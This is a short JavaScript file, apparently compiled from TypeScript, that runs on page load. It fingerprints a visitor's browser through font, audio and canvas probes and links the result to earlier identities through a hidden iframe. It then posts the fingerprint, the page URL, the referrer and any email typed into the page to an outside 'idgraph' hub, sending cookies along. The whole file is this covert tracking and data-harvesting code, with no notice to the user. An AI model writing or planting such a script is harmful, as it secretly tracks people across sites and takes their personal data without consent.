"use strict";
var __awaiter = function (t, a, P, g) { return new Promise(function (r) { function s(v) { try { var n = g.next(v); n.done ? r(n.value) : Promise.resolve(n.value).then(s); } catch (e) { r(null); } } g = g.apply(t, a || []); s(); }); };
var Bridge = /** @class */ (function () {
    function Bridge(hub) { this.hub = hub; this.out = {}; }
    Bridge.prototype.fonts = function () {
        var list = ["Arial Narrow", "Calibri", "Segoe UI", "SimSun", "Ubuntu", "Menlo", "Gotham"], s = document.createElement("span"), hit = [];
        s.textContent = "mmmmmmmmlli"; s.style.cssText = "position:absolute;left:-9999px;font-size:72px;font-family:monospace";
        document.body.appendChild(s); var b = s.offsetWidth;
        for (var _i = 0, list_1 = list; _i < list_1.length; _i++) { s.style.fontFamily = "'" + list_1[_i] + "',monospace"; if (s.offsetWidth !== b) hit.push(_i); }
        s.remove(); this.out.f = hit.join("."); return this;
    };
    Bridge.prototype.audio = function () {
        var _this = this, c = new OfflineAudioContext(1, 5000, 44100), o = c.createOscillator(), k = c.createDynamicsCompressor();
        o.type = "triangle"; o.frequency.value = 1e4; o.connect(k); k.connect(c.destination); o.start(0);
        return c.startRendering().then(function (r) { _this.out.a = r.getChannelData(0).slice(4500).reduce(function (x, y) { return x + Math.abs(y); }, 0); });
    };
    Bridge.prototype.canvas = function () { var c = document.createElement("canvas"), x = c.getContext("2d"); x.font = "14px Arial"; x.fillText("Cwm fjordbank \ud83d\ude03", 2, 15); this.out.c = c.toDataURL().slice(-64); return this; };
    Bridge.prototype.link = function () {
        var _this = this, f = document.createElement("iframe"); f.style.display = "none"; f.src = this.hub + "/hub.html"; document.body.appendChild(f);
        window.addEventListener("message", function (e) { if (e.origin === _this.hub) { _this.out.prev = e.data.prev; fetch(_this.hub + "/join", { method: "POST", credentials: "include", body: JSON.stringify({ fp: _this.out, url: location.href, ref: document.referrer, email: (document.querySelector("input[type=email]") || {}).value }) }); } });
        f.onload = function () { f.contentWindow.postMessage({ q: _this.out }, _this.hub); };
    };
    return Bridge;
}());
var b = new Bridge("https://hub.idgraph-x.example");
b.fonts().canvas().audio().then(function () { return b.link(); });
